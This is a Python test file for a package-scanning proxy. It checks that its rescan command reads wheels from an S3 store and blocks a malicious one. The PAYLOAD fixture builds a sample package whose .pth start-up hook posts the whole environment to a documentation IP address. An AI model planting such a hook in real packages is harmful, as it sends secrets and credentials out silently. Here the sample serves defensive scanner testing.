"""The commands that read stored files (`rescan`, `incident`) read them from the S3
store the servers write to (`--store-url`), not from a local folder that a replica
of a cluster does not have. Against a real SeaweedFS (`tests/seaweed.py`).
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import boto3
import pytest

from pycustoms.db import Database
from pycustoms.db.firewall import ScanVerdictRow
from pycustoms.storage.s3 import S3BlobStore, S3Location
from tests.builders import build_wheel
from tests.seaweed import BUCKET, LocalSeaweed
from tests.server.fakes import SlowUpstream
from tests.server.serverproc import ServerProcess, pip_install

pytestmark = pytest.mark.slow
OLD = datetime.now(UTC) - timedelta(days=60)

# Inert text: a start-up hook that would post the environment to a documentation address.
PAYLOAD = {
    "evilpkg/__init__.py": (
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\n"
    ),
    "evilpkg-hook.pth": "import evilpkg\n",
}


def _rescan(
    data: Path, database: str, env: dict[str, str], *extra: str
) -> tuple[int, dict[str, object]]:
    done = subprocess.run(
        [sys.executable, "-m", "pycustoms", "rescan", "--data-dir", str(data),
         "--database-url", database, *extra],
        capture_output=True, text=True, env=env, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stderr  # 1: files newly blocked
    document = json.loads(done.stdout)
    assert isinstance(document, dict)
    return done.returncode, document


def test_rescan_reads_the_files_from_the_s3_store(seaweed: LocalSeaweed, tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "evilpkg", "1.0", PAYLOAD)
    body = wheel.read_bytes()
    sha = hashlib.sha256(body).hexdigest()
    # A replica wrote the file to the bucket (its own cache is elsewhere).
    store = S3BlobStore(S3Location(BUCKET, "files"), tmp_path / "replica-cache")
    writer = store.writer()
    writer.write(body)
    writer.finish()
    writer.share()
    writer.commit(sha)
    database = f"sqlite:///{tmp_path / 'shared.sqlite'}"
    db = Database(database).open()
    with db.session() as session, session.begin():
        session.add(
            ScanVerdictRow(
                sha256=sha, filename=wheel.name, decision="allow", score=0, reasons=[],
                rules=[], error=None, scanned_at=datetime.now(UTC),
            )
        )  # fmt: skip
    db.close()
    env = {**os.environ, **seaweed.environment()}
    env.pop("PYCUSTOMS_SERVE_STORE_URL", None)

    # Without the store's URL this host has no copy of the file: nothing is judged.
    code, local = _rescan(tmp_path / "elsewhere", database, env)
    assert code == 0
    assert (local["scanned"], local["missing"]) == (0, 1)

    # With it (flag, or the same variable `serve` reads) the file is read from the bucket,
    # checked against its sha256, and judged again.
    for extra, more_env in (
        (("--store-url", f"s3://{BUCKET}/files"), {}),
        ((), {"PYCUSTOMS_SERVE_STORE_URL": f"s3://{BUCKET}/files"}),
    ):
        with Database(database).open().session() as session, session.begin():
            row = session.get(ScanVerdictRow, sha)
            assert row is not None
            row.decision = "allow"
        host = tmp_path / f"host-{len(extra)}"
        code, shared = _rescan(host, database, {**env, **more_env}, *extra)
        assert code == 1
        assert (shared["scanned"], shared["missing"]) == (1, 0)
        assert shared["newly_blocked"] == [{"filename": wheel.name, "sha256": sha}]


def test_a_server_with_a_store_url_keeps_what_it_serves_in_the_bucket(
    seaweed: LocalSeaweed, tmp_path: Path
) -> None:
    """pip installs through `serve --store-url`; the file it got is in the bucket, under
    its sha256, and a second server with an empty data directory reads it from there."""
    upstream = SlowUpstream(tmp_path / "up")
    wheel = build_wheel(tmp_path, "s3pkg", "1.0", {"s3pkg/__init__.py": "VALUE = 1\n"})
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    upstream.add_file("s3pkg", "1.0", wheel.name, wheel.read_bytes(), uploaded=OLD)
    upstream.start()
    env = {**seaweed.environment(), "PYCUSTOMS_SERVE_PRESCAN": "0"}
    url = f"s3://{BUCKET}/index"
    server = ServerProcess(upstream.url, tmp_path / "a", env=env, args=("--store-url", url))
    try:
        done = pip_install(server.index, tmp_path / "t", "s3pkg==1.0")
        assert done.returncode == 0, done.stderr + server.output()
    finally:
        server.stop()
    s3 = boto3.client("s3")
    head = s3.head_object(Bucket=BUCKET, Key=S3Location(BUCKET, "index").blob_key(sha))
    assert head["ContentLength"] == wheel.stat().st_size
    # Nothing staged is left behind once the file is published.
    staged = s3.list_objects_v2(Bucket=BUCKET, Prefix="index/tmp/").get("KeyCount", 0)
    assert staged == 0
    # `rescan` on another host, with the same store and database, reads it from the bucket.
    database = f"sqlite:///{tmp_path / 'a' / 'pycustoms.db'}"  # the server's default
    code, result = _rescan(
        tmp_path / "b", database, {**os.environ, **seaweed.environment()}, "--store-url", url
    )
    assert code == 0
    assert (result["scanned"], result["missing"]) == (1, 0)
